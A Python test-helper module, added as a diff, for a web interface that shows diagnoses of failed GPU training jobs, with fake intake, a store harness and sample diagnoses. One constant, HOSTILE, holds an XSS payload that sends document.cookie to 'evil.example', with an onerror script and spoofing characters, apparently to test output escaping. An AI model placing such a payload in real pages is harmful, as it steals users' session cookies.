@@ -1,0 +1,245 @@
+"""The web ring over a real store, with a few diagnoses in it: what its tests and the page tests share."""
+
+import asyncio
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import httpx
+from prometheus_client import CollectorRegistry
+
+from diagnoser.adapters.sql.store import SqlStore, open_store
+from diagnoser.ingest import Defaults
+from diagnoser.intake import Receipt
+from diagnoser.model import (
+    Advice,
+    AttemptKey,
+    Cited,
+    Compression,
+    Diagnosis,
+    Event,
+    EventKind,
+    Job,
+    LeftOut,
+    Mode,
+    ModelUse,
+    Plan,
+    PlanState,
+    Rejected,
+    RootCause,
+    Suspect,
+    Symptom,
+)
+from diagnoser.ports import DiagnosisRecord, Timing
+from diagnoser.taxonomy import Action, FailureType, Outcome, category_of
+from diagnoser.web.server import create
+from diagnoser.web.services import Services
+
+NOW = 1_790_000_000.0
+HOSTILE = (
+    "<script>fetch('//evil.example/'+document.cookie)</script> \x1b[31mred \u202etxt.exe <img src=x onerror=alert(1)>"
+)
+TIMING = Timing(grace=0.0, settle=0.0, settle_max=0.0)
+
+
+@dataclass
+class FakeIntake:
+    """Keeps what it is given; answers with ``receipt`` or raises ``error``."""
+
+    receipt: Receipt = field(default_factory=Receipt)
+    error: Exception | None = None
+    taken: list[tuple[bytes, str, Defaults, float]] = field(default_factory=list)
+
+    async def accept(self, body: bytes, format: str, defaults: Defaults, received: float) -> Receipt:
+        self.taken.append((body, format, defaults, received))
+        if self.error:
+            raise self.error
+        return self.receipt
+
+
+@dataclass(frozen=True)
+class Web:
+    """A web ring that runs in this process: over a real store, with an intake that only listens."""
+
+    store: SqlStore
+    intake: FakeIntake
+    services: Services
+    client: httpx.AsyncClient
+
+
+@asynccontextmanager
+async def serving(folder: Path, **more: object) -> AsyncIterator[Web]:
+    """``more`` takes the place of fields of Services."""
+    store = await open_store(f"sqlite:///{folder / 'web.db'}")
+    intake = FakeIntake()
+    given = services(store, intake, **more)
+    transport = httpx.ASGITransport(app=create(given), raise_app_exceptions=False)
+    try:
+        async with httpx.AsyncClient(transport=transport, base_url="http://diagnoser.test") as client:
+            yield Web(store, intake, given, client)
+    finally:
+        await store.close()
+
+
+def services(store: SqlStore, intake: FakeIntake, **more: object) -> Services:
+    fields: dict[str, object] = {
+        "store": store,
+        "intake": intake,
+        "clock": lambda: NOW,
+        "registry": CollectorRegistry(),
+        "stopping": asyncio.Event(),
+    }
+    return Services(**(fields | more))  # type: ignore[arg-type]
+
+
+def verdict(kind: FailureType = FailureType.ECC_ERROR, **fields: object) -> Diagnosis:
+    values: dict[str, object] = {
+        "outcome": Outcome.FAILED,
+        "category": category_of(kind),
+        "type": kind,
+        "confidence": 0.97,
+        "decided_by": f"rule:{kind}_seen",
+    }
+    return Diagnosis(**(values | fields))  # type: ignore[arg-type]
+
+
+async def save(
+    store: SqlStore, job: str, diagnosis: Diagnosis, *, attempt: int = 1, created: float = NOW, plan: bool = False
+) -> DiagnosisRecord:
+    """Store a diagnosis the way a worker does: the attempt ends, is claimed, and the verdict is saved."""
+    key = AttemptKey(job, attempt)
+    await store.add_event(key, Event(EventKind.STARTED, created - 7_500))
+    await store.add_event(key, Event(EventKind.EXIT, created - 20, code=1, reason="NonZeroExitCode"))
+    claims = await store.claim_attempts(created, TIMING, 60.0, 100)
+    claim = next(one for one in claims if one.attempt.key == key)
+    made = _plan(key, diagnosis, created) if plan else None
+    record = DiagnosisRecord(
+        f"{int(created * 1000):014d}-{attempt}", key, claim.attempt.revision, created, True, diagnosis, made
+    )
+    await store.save_diagnosis(claim, record, made, [])
+    return record
+
+
+def _plan(key: AttemptKey, diagnosis: Diagnosis, created: float) -> Plan:
+    return Plan(
+        id=f"plan-{key.job}-{key.number}",
+        key=f"{key.job}/{key.number}/{diagnosis.recovery.action}",
+        job=key.job,
+        attempt=key.number,
+        action=diagnosis.recovery.action,
+        nodes=tuple(one.node for one in diagnosis.nodes[:1]),
+        mode=Mode.OBSERVE,
+        state=PlanState.ADVISED,
+        reason="the mode of this action is observe",
+        created=created,
+        expires=created + 3600,
+    )
+
+
+ECC = verdict(
+    root_cause=RootCause(
+        18_233,
+        "[ 8123.112233] NVRM: Xid (PCI:0000:1b:00): 94, pid=48112, name=python, Contained ECC error",
+        rank=12,
+        node="hgx-04",
+        gpu="0000:1b:00",
+    ),
+    evidence=(
+        Cited(
+            18_233,
+            "[ 8123.112233] NVRM: Xid (PCI:0000:1b:00): 94, pid=48112, name=python, Contained ECC error",
+            "Xid 94 reports a contained uncorrectable memory error of this GPU",
+            rank=12,
+        ),
+        Cited(
+            18_240,
+            "[rank12]: RuntimeError: CUDA error: uncorrectable ECC error encountered",
+            "the process that used the GPU got the error",
+            rank=12,
+        ),
+    ),
+    symptoms=(
+        Symptom(
+            18_301,
+            "[rank3]:[E ProcessGroupNCCL.cpp:607] [Rank 3] Watchdog caught collective operation timeout",
+            FailureType.NCCL_TIMEOUT_ERROR,
+        ),
+        Symptom(
+            18_344,
+            "torch.distributed.elastic.multiprocessing.errors.ChildFailedError: ",
+            FailureType.CALLED_PROCESS_ERROR,
+        ),
+    ),
+    rejected=(
+        Rejected(
+            211,
+            "UserWarning: The given NumPy array is not writable",
+            FailureType.VALUE_ERROR,
+            "a warning that healthy runs print as well",
+        ),
+    ),
+    nodes=(
+        Suspect("hgx-04", 0.95, "the kernel log of this node names the GPU"),
+        Suspect("hgx-11", 0.2, "its rank stopped first in the collective"),
+    ),
+    recovery=Advice(Action.CORDON_AND_RESUBMIT, "a named node has a hardware fault"),
+    mitigation="Cordon the node, reset or replace GPU 0000:1b:00, and resubmit from the last checkpoint.",
+    left_out=LeftOut(17_120, "routine progress lines"),
+    compression=Compression(21_408, 3_214_992, 412, 61_220),
+    ruleset="5d2f9c01ab77",
+)
+
+OOM = verdict(
+    FailureType.OUT_OF_MEMORY_ERROR,
+    confidence=0.93,
+    root_cause=RootCause(902, "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.31 GiB.", rank=0),
+    evidence=(Cited(902, "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.31 GiB.", "device memory"),),
+    recovery=Advice(Action.NOTIFY_USER, "the same batch would fail again"),
+    mitigation="Use a smaller micro batch, activation checkpointing, or more tensor parallelism.",
+    compression=Compression(955, 88_100, 120, 9_400),
+)
+
+UNSURE = verdict(
+    FailureType.UNKNOWN,
+    confidence=0.35,
+    decided_by="llm:qwen3-32b",
+    root_cause=RootCause(77, HOSTILE),
+    evidence=(Cited(77, HOSTILE, "the last line before the silence"),),
+    nodes=(Suspect("<b>n1</b>", 0.4, "<i>why</i>"),),
+    notes=("Rules did not decide.",),
+    recovery=Advice(Action.NOTIFY_USER, "the cause is not known"),
+    model=ModelUse("qwen3-32b", "diagnose/v1", "ab12", 3, 7_800, 410, 6.2),
+)
+
+DONE = verdict(FailureType.COMPLETED, outcome=Outcome.COMPLETED, confidence=0.99, decided_by="heuristic:exit_code")
+SCRIPT = verdict(
+    FailureType.IMPORT_ERROR,
+    decided_by="heuristic:exception_class",
+    confidence=0.88,
+    root_cause=RootCause(14, "ModuleNotFoundError: No module named 'flash_attn_3'", rank=5, node="hgx-09"),
+    recovery=Advice(Action.NOTIFY_USER, "only a change of the script helps"),
+)
+
+
+async def fill(store: SqlStore) -> dict[str, DiagnosisRecord]:
+    """Five jobs, one of them with two attempts."""
+    await store.register(
+        Job(
+            "llm-70b-pretrain",
+            cluster="east",
+            name="pretrain 70B",
+            nodes=tuple(f"hgx-{number:02d}" for number in range(1, 17)),
+            framework="megatron",
+            checkpoint_dir="/checkpoints/llm-70b",
+            labels={"team": "pretraining"},
+            created=NOW - 90_000,
+        )
+    )
+    return {
+        "oom": await save(store, "llm-70b-pretrain", OOM, created=NOW - 86_000),
+        "done": await save(store, "sft-8b.seed_3", DONE, created=NOW - 7_200),
+        "script": await save(store, "eval-mmlu@v2", SCRIPT, created=NOW - 3_000),
+        "unsure": await save(store, "rlhf-13b", UNSURE, created=NOW - 900),
+        "ecc": await save(store, "llm-70b-pretrain", ECC, attempt=2, created=NOW - 40, plan=True),
+    }
